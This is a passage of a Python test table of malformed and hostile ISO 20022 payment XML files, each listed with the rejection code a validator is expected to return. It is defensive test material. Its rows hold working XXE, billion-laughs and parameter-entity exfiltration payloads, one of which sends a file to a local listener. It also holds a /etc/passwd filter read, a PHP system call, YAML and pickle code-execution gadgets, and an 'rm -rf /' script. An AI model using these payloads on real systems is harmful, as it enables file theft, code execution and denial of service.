"""The table of attacks: files made to harm, and how each of them must end.

A row is a name, the bytes, and the end, in short words:

    FIL-04 <!DOCTYPE             the file is refused by that rule, for what was found
    CT-07 not_xml                for it is not well-formed, or cut off (`truncated`)
    CT-07 at Dt                  for that element breaks the schema
    BAT-03 control_sum           for those fields of its header
    block DAT-03 requested_date  the block is refused, by that rule, for that field
    rejected CHR-02 Cdtr/Nm      so is the order; or held, or rolled to another day
    accepted 100.00              the order is accepted with that amount as written; behind it stands what is remarked

`{canary}` in the bytes is the URL of a file that nobody may open, `{port}` a port of this machine at which somebody
listens and nobody may call.
"""

from collections.abc import Callable, Iterator
from typing import NamedTuple

from tools.sample_bank import GOOD

# fmt: off

XML = '<?xml version="1.0" encoding="UTF-8"?>'
NAME = "pain.001.001.09"
SPACE = "urn:iso:std:iso:20022:tech:xsd:" + NAME
BODY = GOOD.removeprefix(XML + "\n").rstrip("\n")
ROOT = f'<Document xmlns="{SPACE}">'
AMOUNT = '<Amt><InstdAmt Ccy="EUR">100.00</InstdAmt></Amt>'
ORDER = GOOD[GOOD.index("<CdtTrfTxInf>") : GOOD.index("</PmtInf>")]
BLOCK = GOOD[GOOD.index("<PmtInf>") : GOOD.index("</CstmrCdtTrfInitn>")]
HUGE = 1_000_000


class Attack(NamedTuple):
    """One row."""

    name: str
    content: bytes
    end: str


def attacks() -> Iterator[Attack]:
    """All rows that are one payment file."""
    for family in (ENTITIES, STRUCTURE, SIZES, ENCODINGS, NAMESPACES, SPLICES, TEXTS, VALUES):
        for name, content, end in family:
            yield Attack(name, content if isinstance(content, bytes) else content.encode("utf-8", "surrogatepass"), end)


def change(old: str, new: str, text: str = GOOD) -> str:
    """The sound file with one thing changed, which must stand in it."""
    assert old in text, old
    return text.replace(old, new, 1)


def typed(document_type: str, body: str = BODY) -> str:
    return f"{XML}\n{document_type}\n{body}"


def told(text: str) -> str:
    """The order's remittance."""
    return change("Platba", text)


def named(text: str) -> str:
    """The payee's name."""
    return change("Oceliareň", text)


def amount(text: str, currency: str = "EUR") -> str:
    """The order's amount, in all sums as well."""
    file = GOOD.replace("<CtrlSum>100.00</CtrlSum>", "")
    return change(AMOUNT, f'<Amt><InstdAmt Ccy="{currency}">{text}</InstdAmt></Amt>', file)


def due(text: str) -> str:
    return change("<Dt>2026-04-02</Dt>", f"<Dt>{text}</Dt>")


def created(text: str) -> str:
    return change("<CreDtTm>2026-04-02T07:30:00</CreDtTm>", f"<CreDtTm>{text}</CreDtTm>")


def laughs(levels: int) -> str:
    """Entities of entities: a billion words from a kilobyte."""
    lines = ['<!ENTITY l0 "ha">']
    lines += [f'<!ENTITY l{level} "{f"&l{level - 1};" * 10}">' for level in range(1, levels)]
    return typed(f"<!DOCTYPE Document [{''.join(lines)}]>", change("Platba", f"&l{levels - 1};", BODY))


def attributes(number: int) -> str:
    return "".join(f' a{each}=""' for each in range(number))


def supplement(text: str) -> str:
    return change("</CdtTrfTxInf>", f"<SplmtryData><Envlp>{text}</Envlp></SplmtryData></CdtTrfTxInf>")


Rows = list[tuple[str, str | bytes, str]]


def rows(what: str, made: Callable[[str], str], ends: dict[str, tuple[str, ...]]) -> Rows:
    """One row for each value, under the end that it must come to."""
    return [(f"{what} {text[:40]!r}", made(text), end) for end, values in ends.items() for text in values]


ENTITIES: Rows = [
    ("billion laughs", laughs(10), "FIL-04 <!DOCTYPE"),
    ("quadratic blow-up", typed(f'<!DOCTYPE d [<!ENTITY a "{"a" * 50_000}">]>', change("Platba", "&a;" * 1_000, BODY)), "FIL-04 <!DOCTYPE"),
    ("entity that holds itself", typed('<!DOCTYPE d [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', change("Platba", "&a;", BODY)), "FIL-04 <!DOCTYPE"),
    ("external entity of a file", typed('<!DOCTYPE d [<!ENTITY a SYSTEM "{canary}">]>', change("Platba", "&a;", BODY)), "FIL-04 <!DOCTYPE"),
    ("external entity of the network", typed('<!DOCTYPE d [<!ENTITY a SYSTEM "http://127.0.0.1:{port}/a">]>', change("Platba", "&a;", BODY)), "FIL-04 <!DOCTYPE"),
    ("external entity by ftp", typed('<!DOCTYPE d [<!ENTITY a SYSTEM "ftp://127.0.0.1:{port}/a">]>', change("Platba", "&a;", BODY)), "FIL-04 <!DOCTYPE"),
    ("external entity by a share", typed(r'<!DOCTYPE d [<!ENTITY a SYSTEM "\\127.0.0.1\share\a">]>'), "FIL-04 <!DOCTYPE"),
    ("external entity of a device", typed('<!DOCTYPE d [<!ENTITY a SYSTEM "file:///dev/zero">]>', change("Platba", "&a;", BODY)), "FIL-04 <!DOCTYPE"),
    ("external entity by a filter", typed('<!DOCTYPE d [<!ENTITY a SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd">]>'), "FIL-04 <!DOCTYPE"),
    ("external entity with a public name", typed('<!DOCTYPE d [<!ENTITY a PUBLIC "-//W3C//DTD XHTML 1.0//EN" "{canary}">]>'), "FIL-04 <!DOCTYPE"),
    ("parameter entity", typed('<!DOCTYPE d [<!ENTITY % a SYSTEM "{canary}"> %a;]>'), "FIL-04 <!DOCTYPE"),
    ("parameter entity that sends a file away", typed('<!DOCTYPE d [<!ENTITY % f SYSTEM "{canary}"><!ENTITY % e "<!ENTITY &#37; s SYSTEM \'http://127.0.0.1:{port}/?%f;\'>"> %e; %s;]>'), "FIL-04 <!DOCTYPE"),
    ("external document type", typed('<!DOCTYPE Document SYSTEM "{canary}">'), "FIL-04 <!DOCTYPE"),
    ("external document type of the network", typed('<!DOCTYPE Document SYSTEM "http://127.0.0.1:{port}/d.dtd">'), "FIL-04 <!DOCTYPE"),
    ("document type with a public name", typed('<!DOCTYPE Document PUBLIC "-//ISO//pain//EN" "http://127.0.0.1:{port}/d.dtd">'), "FIL-04 <!DOCTYPE"),
    ("empty document type", typed("<!DOCTYPE Document>"), "FIL-04 <!DOCTYPE"),
    ("document type with a default attribute", typed('<!DOCTYPE d [<!ATTLIST InstdAmt Ccy CDATA "EUR">]>', change(' Ccy="EUR"', "", BODY)), "FIL-04 <!DOCTYPE"),
    ("document type with an unparsed entity", typed('<!DOCTYPE d [<!NOTATION n SYSTEM "x"><!ENTITY a SYSTEM "{canary}" NDATA n>]>'), "FIL-04 <!DOCTYPE"),
    ("document type in small letters", typed("<!doctype Document>"), "CT-07 not_xml"),
    ("document type behind the root", GOOD + "<!DOCTYPE Document>", "FIL-04 <!DOCTYPE"),
    ("document type inside", change("<PmtInf>", "<!DOCTYPE Document><PmtInf>"), "FIL-04 <!DOCTYPE"),
    ("document type in CDATA", told("<![CDATA[<!DOCTYPE a>]]>"), "FIL-04 <!DOCTYPE"),
    ("document type as text", told("&lt;!DOCTYPE a&gt;"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("document type by references", told("&#60;!DOCTYPE a&#62;"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("document type in two halves", change("<PmtInf>", "<<!-- -->!DOCTYPE Document><PmtInf>"), "CT-07 not_xml"),
    ("document type across the scan's edge", change("<PmtInf>", "<a/>" * 262_000 + "<!DOCTYPE Document><PmtInf>"), "FIL-04 <!DOCTYPE"),
    ("entity of HTML", told("&nbsp;"), "CT-07 not_xml"),
    ("entity that nobody declared", told("&admin;"), "CT-07 not_xml"),
    ("entity without its end", told("&lt"), "CT-07 not_xml"),
    ("the five entities", told("&amp;&lt;&gt;&quot;&apos;"), "accepted 100.00 CHR-01 RmtInf/Ustrd"),
    ("reference to a control sign", told("&#8;"), "CT-07 not_xml"),
    ("reference to NUL", told("&#0;"), "CT-07 not_xml"),
    ("reference to a surrogate", told("&#xD800;"), "CT-07 not_xml"),
    ("reference beyond Unicode", told("&#x110000;"), "CT-07 not_xml"),
    ("reference of a thousand digits", told("&#" + "9" * 1_000 + ";"), "CT-07 not_xml"),
    ("reference with a thousand zeros", told("&#" + "0" * 1_000 + "65;"), "accepted 100.00"),
    ("reference to our separators", told("&#127;&#129;&#141;&#143;&#144;&#157;"), "rejected CHR-02 RmtInf/Ustrd"),
    ("our separators as they are", told("\x7f\x81\x8d\x8f\x90\x9d"), "rejected CHR-02 RmtInf/Ustrd"),
    ("reference to a tag", change("</CdtTrfTxInf>", "&#60;/CdtTrfTxInf&#62;"), "CT-07 not_xml"),
]

STRUCTURE: Rows = [
    ("XInclude of a file", change("<RmtInf>", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}" parse="text"/><RmtInf>'), "CT-07 at Document"),
    ("XInclude in an envelope", supplement('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{canary}" parse="text"/>'), "accepted 100.00 SCH-04 CdtTrfTxInf"),
    ("XInclude of the network in an envelope", supplement('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="http://127.0.0.1:{port}/"/>'), "accepted 100.00 SCH-04 CdtTrfTxInf"),
    ("stylesheet of a file", change("<Document", '<?xml-stylesheet type="text/xsl" href="{canary}"?><Document'), "accepted 100.00"),
    ("stylesheet of the network", change("<Document", '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:{port}/a.xsl"?><Document'), "accepted 100.00"),
    ("instruction of PHP", told("<?php system('id'); ?>"), "CT-07 at Ustrd"),
    ("instruction named xml inside", told("<?xml version='1.0'?>"), "CT-07 not_xml"),
    ("catalogue of OASIS", change("<Document", '<?oasis-xml-catalog catalog="{canary}"?><Document'), "accepted 100.00"),
    ("schemaLocation of a file", change("<Document ", '<Document xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="' + SPACE + ' {canary}" '), "accepted 100.00"),
    ("schemaLocation of the network", change("<Document ", '<Document xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="' + SPACE + ' http://127.0.0.1:{port}/a.xsd" '), "accepted 100.00"),
    ("noNamespaceSchemaLocation", change("<Document ", '<Document xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:noNamespaceSchemaLocation="{canary}" '), "accepted 100.00"),
    ("xsi:type that is none", change("<RmtInf>", '<RmtInf xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="Any">'), "CT-07 at RmtInf"),
    ("xsi:nil on the amount", change('<InstdAmt Ccy="EUR">100.00', '<InstdAmt xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:nil="true" Ccy="EUR">'), "CT-07 at InstdAmt"),
    ("xml:base", change("<Document ", '<Document xml:base="{canary}" '), "CT-07 at Document"),
    ("xml:id twice", change("<PmtId>", '<PmtId xml:id="a">').replace("<Amt>", '<Amt xml:id="a">'), "CT-07 at PmtId"),
    ("a stylesheet in place of a message", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:include href="{canary}"/></xsl:stylesheet>', "FIL-06 stylesheet in http://www.w3.org/1999/XSL/Transform"),
    ("a schema in place of a message", '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema"><xs:include schemaLocation="{canary}"/></xs:schema>', "FIL-06 schema in http://www.w3.org/2001/XMLSchema"),
    ("an envelope of SOAP around it", '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>' + BODY + "</s:Body></s:Envelope>", "FIL-06 Envelope in http://schemas.xmlsoap.org/soap/envelope/"),
    ("a page of HTML", "<!DOCTYPE html><html><script>alert(1)</script></html>", "FIL-04 <!DOCTYPE"),
    ("a page of HTML without its type", "<html><script>alert(1)</script></html>", "FIL-06 html"),
    ("a picture that runs a script", '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "FIL-06 svg in http://www.w3.org/2000/svg"),
    ("JSON", '{"Document": {"PmtInf": []}}', "CT-07 not_xml"),
    ("YAML that makes objects", "!!python/object/apply:os.system [id]", "CT-07 not_xml"),
    ("a pickle", b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x8c\x06system\x93.", "FIL-03 0x80"),
    ("a compressed file", b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xb3\x01\x00", "FIL-03 0x8b"),
    ("a zip", b"PK\x03\x04\x14\x00\x00\x00\x08\x00", "FIL-03 0x00"),
    ("a shell script", "#!/bin/sh\nrm -rf /\n", "CT-07 not_xml"),
    ("two messages one behind the other", GOOD + BODY, "CT-07 not_xml"),
    ("a message inside a message", change("<PmtInf>", BODY + "<PmtInf>"), "CT-07 at Document"),
    ("a message in an envelope of itself", supplement(BODY), "accepted 100.00 SCH-04 CdtTrfTxInf"),
    ("an order in an envelope", supplement(ORDER), "accepted 100.00 SCH-04 CdtTrfTxInf"),
    ("a block in an envelope", supplement(BLOCK), "accepted 100.00 SCH-04 CdtTrfTxInf"),
    ("a block in a block", change("<CdtTrfTxInf>", BLOCK + "<CdtTrfTxInf>"), "CT-07 at PmtInf"),
    ("an order in an order", change("<RmtInf>", ORDER + "<RmtInf>"), "CT-07 at CdtTrfTxInf"),
    ("an order outside every block", change("</PmtInf>", "</PmtInf>" + ORDER), "CT-07 at CdtTrfTxInf"),
    ("a second header", change("<PmtInf>", GOOD[GOOD.index("<GrpHdr>") : GOOD.index("<PmtInf>")] + "<PmtInf>"), "CT-07 at GrpHdr"),
    ("a header behind the block", change("</CstmrCdtTrfInitn>", "<GrpHdr/></CstmrCdtTrfInitn>"), "CT-07 at GrpHdr"),
    ("a second message identification", change("</MsgId>", "</MsgId><MsgId>OTHER</MsgId>"), "CT-07 at MsgId"),
    ("a second amount", change("</InstdAmt>", '</InstdAmt><InstdAmt Ccy="EUR">1.00</InstdAmt>'), "CT-07 at InstdAmt"),
    ("a second account", change("</CdtrAcct>", "</CdtrAcct><CdtrAcct><Id><IBAN>SK6552000000000005566783</IBAN></Id></CdtrAcct>"), "CT-07 at CdtrAcct"),
    ("two accounts in one", change("</IBAN></Id></CdtrAcct>", "</IBAN><Othr><Id>1</Id></Othr></Id></CdtrAcct>"), "CT-07 at Othr"),
    ("two currencies", change('Ccy="EUR"', 'Ccy="EUR" Ccy="USD"'), "CT-07 not_xml"),
    ("an attribute twice by prefixes", change("<Cdtr>", '<Cdtr xmlns:a="u" xmlns:b="u" a:x="1" b:x="2">'), "CT-07 not_xml"),
    ("an attribute that is not known", change("<Cdtr>", '<Cdtr admin="true">'), "CT-07 at Cdtr"),
    ("a block without orders", change(ORDER, ""), "CT-07 at PmtInf"),
    ("no block", change(BLOCK, ""), "CT-07 at CstmrCdtTrfInitn"),
    ("text between the elements", change("<PmtInf>", "100000 EUR<PmtInf>"), "CT-07 at CstmrCdtTrfInitn"),
    ("text behind the last order", change("</PmtInf>", "text</PmtInf>"), "CT-07 at PmtInf"),
    ("tags in capitals", BODY.upper(), "FIL-06 DOCUMENT"),
    ("tags crossing", change("</Cdtr><CdtrAcct>", "<CdtrAcct></Cdtr>"), "CT-07 not_xml"),
    ("a tag that is never closed", change("</RmtInf>", ""), "CT-07 not_xml"),
    ("a tag too many", change("</RmtInf>", "</RmtInf></RmtInf>"), "CT-07 not_xml"),
    ("a closing tag alone", "</Document>", "CT-07 not_xml"),
    ("an attribute in a closing tag", change("</Cdtr>", '</Cdtr a="b">'), "CT-07 not_xml"),
    ("blanks inside tags", change("<Cdtr>", "<Cdtr \t\r\n>").replace("</Cdtr>", "</Cdtr \n>"), "accepted 100.00"),
    ("an empty tag for a full one", change("<Cdtr><Nm>Oceliareň</Nm></Cdtr>", "<Cdtr/>"), "accepted 100.00"),
    ("an element of no name", change("<RmtInf>", "<><RmtInf>"), "CT-07 not_xml"),
    ("a name beginning with a digit", change("<RmtInf>", "<1/><RmtInf>"), "CT-07 not_xml"),
    ("a file of collections under a transfer's name", change("CstmrCdtTrfInitn", "CstmrDrctDbtInitn").replace("/CstmrCdtTrfInitn", "/CstmrDrctDbtInitn"), "CT-07 at CstmrDrctDbtInitn"),
    ("another version's name on this body", GOOD.replace("pain.001.001.09", "pain.001.001.03"), "CT-07 at ReqdExctnDt"),
    ("a message for the clearing", GOOD.replace("pain.001.001.09", "pacs.008.001.08"), "FIL-08 pacs.008.001.08"),
    ("a message that is none", GOOD.replace("pain.001.001.09", "pain.001.001.09.evil"), "FIL-07 urn:iso:std:iso:20022:tech:xsd:pain.001.001.09.evil"),
    ("a message with a path in its name", GOOD.replace("pain.001.001.09", "../../../etc/passwd"), "FIL-07 urn:iso:std:iso:20022:tech:xsd:../../../etc/passwd"),
    ("XML 1.1", change('version="1.0"', 'version="1.1"'), "accepted 100.00"),
    ("XML 2.0", change('version="1.0"', 'version="2.0"'), "CT-07 not_xml"),
    ("standalone", change('encoding="UTF-8"', 'encoding="UTF-8" standalone="yes"'), "accepted 100.00"),
    ("standalone perhaps", change('encoding="UTF-8"', 'encoding="UTF-8" standalone="perhaps"'), "CT-07 not_xml"),
    ("a blank before the declaration", " " + GOOD, "CT-07 not_xml"),
    ("a declaration twice", XML + GOOD, "CT-07 not_xml"),
    ("an empty declaration", change(XML, "<?xml?>"), "CT-07 not_xml"),
]

SIZES: Rows = [
    ("deep: three hundred levels", change("<Cdtr>", "<a>" * 300), "FIL-05 "),
    ("deep: a million levels", change("<Cdtr>", "<a>" * HUGE), "FIL-05 "),
    ("deep in an envelope: two hundred levels", supplement("<a>" * 200 + "</a>" * 200), "accepted 100.00 SCH-04 CdtTrfTxInf"),
    ("deep in an envelope: a thousand levels", supplement("<a>" * 1_000 + "</a>" * 1_000), "FIL-05 "),
    ("wide: a million elements", change("<Cdtr>", "<a/>" * HUGE + "<Cdtr>"), "FIL-10 more than 524288"),
    ("wide in an envelope", supplement("<a/>" * 100_000), "CT-07 at a"),
    ("a million attributes on the root", change("<Document ", "<Document" + attributes(HUGE) + " "), "FIL-10 more than 131072"),
    ("a million attributes on an order", change("<CdtTrfTxInf>", "<CdtTrfTxInf" + attributes(HUGE) + ">"), "FIL-10 more than 65536"),
    ("six thousand attributes on an order", change("<CdtTrfTxInf>", "<CdtTrfTxInf" + attributes(6_000) + ">"), "CT-07 at CdtTrfTxInf"),
    ("a huge attribute on the root", change("<Document ", f'<Document a="{"x" * 20 * HUGE}" '), "FIL-10 more than 131072"),
    ("a huge attribute on an order", change("<CdtTrfTxInf>", f'<CdtTrfTxInf a="{"x" * 20 * HUGE}">'), "FIL-10 more than 65536"),
    ("a long attribute on an order", change("<CdtTrfTxInf>", f'<CdtTrfTxInf a="{"x" * 60_000}">'), "CT-07 at CdtTrfTxInf"),
    ("a huge text", told("x" * 20 * HUGE), "FIL-10 more than 65536"),
    ("a long text", told("x" * 60_000), "CT-07 at Ustrd"),
    ("a text one too long", told("x" * 141), "CT-07 at Ustrd"),
    ("the longest text", told("x" * 140), "accepted 100.00"),
    ("a huge text of references", told("&#65;" * 4 * HUGE), "FIL-10 more than 65536"),
    ("a huge name of an element", change("<RmtInf>", f"<{'a' * 20 * HUGE}/><RmtInf>"), "FIL-10 more than 65536"),
    ("a long name of an element", change("<RmtInf>", f"<{'a' * 60_000}/><RmtInf>"), "CT-07 not_xml"),
    ("a huge comment", change("<PmtInf>", f"<!--{' ' * 20 * HUGE}--><PmtInf>"), "FIL-10 more than 65536"),
    ("a huge comment behind", GOOD + f"<!--{' ' * 20 * HUGE}-->", "FIL-10 more than 65536"),
    ("two million small comments", GOOD + "<!---->" * 2 * HUGE, "FIL-10 more than 524288"),
    ("comments without an end", "<!--" * 16_000, "CT-07 not_xml"),
    ("comments without an end in an attribute", change("<Document ", f'<Document a="{"<!--" * 15_000}'), "CT-07 not_xml"),
    ("a huge instruction", change("<PmtInf>", f"<?a {' ' * 20 * HUGE}?><PmtInf>"), "FIL-10 more than 65536"),
    ("huge blanks between elements", change("<PmtInf>", " " * 20 * HUGE + "<PmtInf>"), "FIL-10 more than 65536"),
    ("huge blanks inside a tag", change("<PmtInf>", "<PmtInf" + " " * 20 * HUGE + ">"), "FIL-10 more than 65536"),
    ("huge blanks before the root", change("<Document", "\n" * 20 * HUGE + "<Document"), "FIL-10 more than 131072"),
    ("huge blanks behind", GOOD + "\n" * 20 * HUGE, "FIL-10 more than 65536"),
    ("twenty thousand namespaces", change("<Document ", "<Document" + "".join(f' xmlns:a{each}="u"' for each in range(20_000)) + " "), "FIL-10 more than 131072"),
    ("sixty-five namespaces", change("<Document ", "<Document" + "".join(f' xmlns:a{each}="u"' for each in range(64)) + " "), "FIL-10 65 × xmlns"),
    ("sixty-four namespaces", change("<Document ", "<Document" + "".join(f' xmlns:a{each}="u"' for each in range(63)) + " "), "accepted 100.00"),
    ("namespaces within namespaces", supplement(("<a" + "".join(f' xmlns:a{each}="u"' for each in range(60)) + ">") * 200 + "<a0:x/>" * 20_000 + "</a>" * 200), "accepted 100.00 SCH-04 CdtTrfTxInf"),
    ("apostrophes in an amount", amount("'" * 60_000), "CT-07 at InstdAmt"),
    ("a parser's words in an amount", amount("' is not a valid value of the " * 2_000), "CT-07 at InstdAmt"),
    ("a parser's words in a date", due("The value '" * 5_000), "CT-07 at Dt"),
    ("twenty thousand remittances", told("</Ustrd><Ustrd>".join(["a"] * 20_000)), "rejected SCH-09 RmtInf"),
    ("nine thousand bad references", change("<Ustrd>Platba</Ustrd>", "<Strd><CdtrRefInf><Ref>//</Ref></CdtrRefInf></Strd>" * 9_000), "rejected SCH-09 RmtInf"),
    ("five thousand hidden texts", told("</Ustrd><Ustrd>".join(["\u202e"] * 5_000)), "rejected CHR-02 RmtInf/Ustrd"),
    ("seven lines of an address", change("</Nm></Cdtr>", "</Nm><PstlAdr>" + "<AdrLine>a</AdrLine>" * 7 + "</PstlAdr></Cdtr>"), "rejected ADR-03 Cdtr/PstlAdr/AdrLine"),
    ("eight lines of an address", change("</Nm></Cdtr>", "</Nm><PstlAdr>" + "<AdrLine>a</AdrLine>" * 8 + "</PstlAdr></Cdtr>"), "CT-07 at AdrLine"),
    ("five hundred blocks", change(BLOCK, BLOCK * 500), "BAT-03 number_of_transactions, control_sum"),
    ("two hundred blocks and comments", change(BLOCK, (BLOCK + "<!-- -->") * 200), "BAT-03 number_of_transactions, control_sum"),
    ("an empty file", "", "FIL-01 0"),
    ("one byte", "<", "CT-07 truncated"),
    ("blanks only", " \n" * 10_000, "FIL-01 20000"),
    ("a mark only", b"\xef\xbb\xbf", "FIL-01 3"),
]

ENCODINGS: Rows = [
    ("UTF-16, little end first, with mark", GOOD.encode("utf-16"), "FIL-03 UTF-16"),
    ("UTF-16, big end first, with mark", b"\xfe\xff" + GOOD.encode("utf-16-be"), "FIL-03 UTF-16"),
    ("UTF-16 without mark", GOOD.encode("utf-16-le"), "FIL-03 UTF-16"),
    ("UTF-16, big end first, without mark", GOOD.encode("utf-16-be"), "FIL-03 UTF-16"),
    ("UTF-16 declared and in fact", change("UTF-8", "UTF-16").encode("utf-16"), "FIL-03 UTF-16"),
    ("UTF-16 declared only", change("UTF-8", "UTF-16"), "FIL-03 UTF-16"),
    ("UTF-32, with mark", GOOD.encode("utf-32"), "FIL-03 UTF-32"),
    ("UTF-32, big end first", GOOD.encode("utf-32-be"), "FIL-03 UTF-16"),
    ("UTF-32, little end first, without mark", GOOD.encode("utf-32-le"), "FIL-03 UTF-16"),
    ("UTF-32 in a strange order", b"\x00\x00\x3c\x00" + GOOD.encode(), "FIL-03 0x00"),
    ("UTF-7", change("UTF-8", "UTF-7").encode("utf-7"), "FIL-03 UTF-7"),
    ("UTF-7 undeclared", BODY.encode("utf-7"), "accepted 100.00"),
    ("EBCDIC", GOOD.replace("ľ", "l").replace("ň", "n").encode("cp037"), "FIL-03 0xa7"),
    ("EBCDIC declared", change("UTF-8", "cp037"), "FIL-03 cp037"),
    ("Latin 1 declared", change("UTF-8", "ISO-8859-1").replace("ľ", "l").replace("ň", "é").encode("latin-1"), "FIL-03 ISO-8859-1"),
    ("Latin 1 undeclared", GOOD.replace("ľ", "l").replace("ň", "é").encode("latin-1"), "FIL-03 0xe9"),
    ("Windows 1250", GOOD.encode("cp1250"), "FIL-03 0xbe"),
    ("ASCII declared", change("UTF-8", "US-ASCII"), "FIL-03 US-ASCII"),
    ("ISO 2022 declared", change("UTF-8", "ISO-2022-JP"), "FIL-03 ISO-2022-JP"),
    ("an encoding of no name", change("UTF-8", ""), "CT-07 not_xml"),
    ("an encoding that nobody knows", change("UTF-8", "X-EVIL"), "FIL-03 X-EVIL"),
    ("an encoding of sixty thousand letters", change("UTF-8", "X" * 60_000), "FIL-03 XXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXXX"),
    ("an encoding with a colon", change("UTF-8", "ISO_8859-1:1987"), "CT-07 not_xml"),
    ("UTF8 without its hyphen", change("UTF-8", "UTF8"), "FIL-03 UTF8"),
    ("an encoding in single quotes", change('"UTF-8"', "'ISO-8859-1'"), "FIL-03 ISO-8859-1"),
    ("an encoding twice", change('encoding="UTF-8"', 'encoding="UTF-8" encoding="ISO-8859-1"'), "CT-07 not_xml"),
    ("an encoding before the version", change('version="1.0" encoding="UTF-8"', 'encoding="ISO-8859-1" version="1.0"'), "FIL-03 ISO-8859-1"),
    ("a mark and another encoding", b"\xef\xbb\xbf" + change("UTF-8", "ISO-8859-1").encode(), "FIL-03 ISO-8859-1"),
    ("a mark", b"\xef\xbb\xbf" + GOOD.encode(), "accepted 100.00"),
    ("two marks", b"\xef\xbb\xbf" * 2 + GOOD.encode(), "CT-07 not_xml"),
    ("a mark inside", told("\ufeffPlatba"), "rejected CHR-02 RmtInf/Ustrd"),
    ("a mark behind a blank", b" \xef\xbb\xbf" + GOOD.encode(), "CT-07 not_xml"),
    ("overlong slash", GOOD.encode().replace(b"Platba", b"\xc0\xaf"), "FIL-03 0xc0"),
    ("overlong less-than", GOOD.encode().replace(b"Platba", b"\xc0\xbcx\xc0\xbe"), "FIL-03 0xc0"),
    ("overlong in three bytes", GOOD.encode().replace(b"Platba", b"\xe0\x80\xbc"), "FIL-03 0xe0"),
    ("overlong NUL", GOOD.encode().replace(b"Platba", b"\xc0\x80"), "FIL-03 0xc0"),
    ("a surrogate", GOOD.encode().replace(b"Platba", b"\xed\xa0\x80"), "FIL-03 0xed"),
    ("a pair of surrogates", GOOD.encode().replace(b"Platba", b"\xed\xa0\x80\xed\xb0\x80"), "FIL-03 0xed"),
    ("beyond Unicode", GOOD.encode().replace(b"Platba", b"\xf4\x90\x80\x80"), "FIL-03 0xf4"),
    ("five bytes a letter", GOOD.encode().replace(b"Platba", b"\xf8\x88\x80\x80\x80"), "FIL-03 0xf8"),
    ("half a letter", GOOD.encode().replace(b"Platba", b"\xc4"), "FIL-03 0xc4"),
    ("half a letter at the end", GOOD.encode() + b"\xc4", "CT-07 truncated"),
    ("the second half alone", GOOD.encode().replace(b"Platba", b"\x80"), "FIL-03 0x80"),
    ("half a letter across the scan's edge", change("<PmtInf>", "<!---->" * 149_796 + "<PmtInf>").encode().replace(b"<!----><PmtInf>", b"\xc4<PmtInf>"), "FIL-03 0xc4"),
    ("NUL in a text", told("Pla\0tba"), "FIL-03 0x00"),
    ("NUL in a tag", change("<RmtInf>", "<Rmt\0Inf>"), "FIL-03 0x00"),
    ("NUL behind", GOOD + "\0", "FIL-03 0x00"),
    ("nothing but NULs", b"\0" * 5_000, "FIL-03 0x00"),
    ("no character: U+FFFE", told("a\ufffe"), "CT-07 not_xml"),
    ("no character: U+FFFF", told("a\uffff"), "CT-07 not_xml"),
    ("no character of a higher plane", told("a\U0001ffff"), "rejected CHR-02 RmtInf/Ustrd"),
    ("a control sign", told("a\x01b"), "CT-07 not_xml"),
    ("a bell", told("a\x07b"), "CT-07 not_xml"),
    ("an escape of a terminal", told("\x1b[2J\x1b]0;x\x07"), "CT-07 not_xml"),
    ("an escape of a terminal in one sign", told("\x9b2J"), "rejected CHR-02 RmtInf/Ustrd"),
    ("a line end of C1", told("a\x85b"), "rejected CHR-02 RmtInf/Ustrd"),
    ("carriage returns", GOOD.replace("\n", "\r"), "accepted 100.00"),
    ("line ends of DOS", GOOD.replace("\n", "\r\n"), "accepted 100.00"),
]
NAMESPACES: Rows = [
    ("a prefix for all", BODY.replace("</", "</p:").replace("<", "<p:").replace("<p:/p:", "</p:").replace("xmlns=", "xmlns:p="), "accepted 100.00"),
    ("a prefix that nobody declared", BODY.replace("Cdtr>", "p:Cdtr>"), "CT-07 not_xml"),
    ("a prefix of another namespace on an element", change("<RmtInf>", '<e:Evil xmlns:e="urn:e"/><RmtInf>'), "CT-07 at Document"),
    ("another namespace for one order", change("<CdtTrfTxInf>", '<CdtTrfTxInf xmlns="urn:e">'), "CT-07 at CdtTrfTxInf"),
    ("no namespace for one order", change("<CdtTrfTxInf>", '<CdtTrfTxInf xmlns="">'), "CT-07 at CdtTrfTxInf"),
    ("the same namespace again", change("<CdtTrfTxInf>", f'<CdtTrfTxInf xmlns="{SPACE}">'), "accepted 100.00"),
    ("another version's namespace for one order", change("<CdtTrfTxInf>", '<CdtTrfTxInf xmlns="urn:iso:std:iso:20022:tech:xsd:pain.001.001.03">'), "CT-07 at CdtTrfTxInf"),
    ("a namespace by a reference", change("urn:iso", "urn&#58;iso"), "accepted 100.00"),
    ("a namespace with a blank behind", change(SPACE, SPACE + " "), "FIL-07 urn:iso:std:iso:20022:tech:xsd:pain.001.001.09 "),
    ("a namespace in capitals", change(SPACE, SPACE.upper()), "FIL-07 URN:ISO:STD:ISO:20022:TECH:XSD:PAIN.001.001.09"),
    ("a namespace with a letter of Cyrillic", change("urn:iso", "urn:is\u043e"), "FIL-07 urn:isо:std:iso:20022:tech:xsd:pain.001.001.09"),
    ("no namespace", change(f' xmlns="{SPACE}"', ""), "FIL-06 Document"),
    ("an empty namespace", change(SPACE, ""), "FIL-06 Document"),
    ("the namespace of a prefix only", change("xmlns=", "xmlns:p="), "FIL-06 Document"),
